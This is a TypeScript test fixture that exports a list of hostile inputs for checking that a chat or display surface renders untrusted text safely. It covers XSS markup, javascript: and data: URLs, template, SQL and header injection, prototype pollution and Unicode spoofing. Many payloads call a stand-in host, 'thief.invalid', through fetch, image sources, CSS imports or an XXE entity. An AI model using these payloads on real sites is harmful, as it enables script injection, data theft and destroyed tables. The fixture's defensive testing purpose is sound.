/** Texts that do harm wherever a text is taken for anything else: for every surface on which what strangers wrote is shown. */

/** Where the payloads would send what they stole. World counts any request to it as a fault, as it does violations and dialogs. */
export const thief = 'http://thief.invalid';

const markup = [
  `<script>window.ran=1;fetch('${thief}/1')</script>`,
  `</script><script>window.ran=1</script>`,
  `<ScRiPt src=${thief}/2></sCrIpT>`,
  `<scr<script>ipt>window.ran=1</scr</script>ipt>`,
  `<img src=x onerror="window.ran=1;this.src='${thief}/3'">`,
  `<img src="x" onerror=window.ran=1 //`,
  `<img/src=x/onerror=window.ran=1>`,
  `"><svg onload=window.ran=1><image href="${thief}/4">`,
  `<svg><script href="data:text/javascript,window.ran=1" />`,
  `<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='window.ran=1'/>#x"></use></svg>`,
  `</textarea></div></title><iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<object data=${thief}/5></object><embed src=${thief}/5>`,
  `<style>@import '${thief}/6';*{background:url(${thief}/6)}</style><link rel=stylesheet href=${thief}/6>`,
  `<meta http-equiv=refresh content="0;url=${thief}/7"><base href=${thief}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=window.ran=1>">`,
  `<form action=${thief}/8><button formaction="javascript:window.ran=1" autofocus onfocus=window.ran=1>x</button></form>`,
  `<input autofocus onfocus=window.ran=1><details open ontoggle=window.ran=1>`,
  `<video src=${thief}/9 poster=${thief}/9 autoplay onerror=window.ran=1></video><audio src=${thief}/9 onerror=window.ran=1>`,
  `<body onload=window.ran=1 background=${thief}/10>`,
  `<template><script>window.ran=1</script></template><div is=x-y>`,
  `<template shadowrootmode=open><img src=x onerror=window.ran=1></template>`,
  `<parlor-chat open server=${thief}></parlor-chat><chat-widget project=1 src=${thief}>`,
  `<p style="position:fixed;inset:0" class="whole" id="app" onclick=window.ran=1>over all</p>`,
  `<marquee onstart=window.ran=1>x</marquee><isindex action=javascript:window.ran=1>`,
  `<a href="java&#115;cript&colon;window.ran=1">a</a><a href="&#1;javascript:window.ran=1">b</a>`,
  `<!--><img src=x onerror=window.ran=1>--><![CDATA[<img src=x onerror=window.ran=1>]]>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${thief}/11">]><x>&e;</x>`,
];

const addresses = [
  `javascript:window.ran=1//%0D%0Ahttps://x.example/%22onclick=%22window.ran=1`,
  `JaVaScRiPt:window.ran=1`,
  `java\tscript:window.ran=1`,
  `data:text/html,<script>parent.ran=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=`,
  `vbscript:msgbox(1)`,
  `[click](javascript:window.ran=1) ![x](${thief}/12) <a href="javascript:window.ran=1">x</a>`,
  `[a]: javascript:window.ran=1 "t"\n[a] <javascript:window.ran=1>`,
  `//thief.invalid/13 \\\\thief.invalid\\13`,
  `blob:${thief}/14 filesystem:${thief}/14`,
];

const languages = [
  `{{constructor.constructor('window.ran=1')()}} \${window.ran=1} <%= window.ran=1 %> #{window.ran=1}`,
  `';window.ran=1;//`,
  `";window.ran=1;//\\";window.ran=1;//`,
  `\`);window.ran=1;(\``,
  `red;background:url(${thief}/15);}*{display:none}`,
  `expression(window.ran=1);-moz-binding:url(${thief}/16)`,
  `' OR 1=1; DROP TABLE users;--`,
  `__proto__`,
  `constructor.prototype.toString`,
  `{"__proto__":{"ran":1},"parlor":"hello"}`,
  `&lt;img src=x onerror=window.ran=1&gt;&amp;lt;script&amp;gt;window.ran=1&amp;lt;/script&amp;gt;`,
  `\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e %3Cscript%3Ewindow.ran=1%3C/script%3E`,
  `x\nSet-Cookie: ran=1\n\n<script>window.ran=1</script>`,
];

const writing = [
  `\u202Egnp.exe\u202C \u2066\u2067nested\u2069`,
  `zero\u200Bwidth\u200D\uFEFF joined`,
  `pаypаl.com аdmin`,
  `Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324a\u0321\u030A\u0353\u0347lgo`,
  `\uFF1Cscript\uFF1Ewindow.ran=1\uFF1C/script\uFF1E`,
  `<img src=x onerror=window.ran=1>${'wide'.repeat(900)}`,
];

export const payloads: readonly string[] = [...markup, ...addresses, ...languages, ...writing];
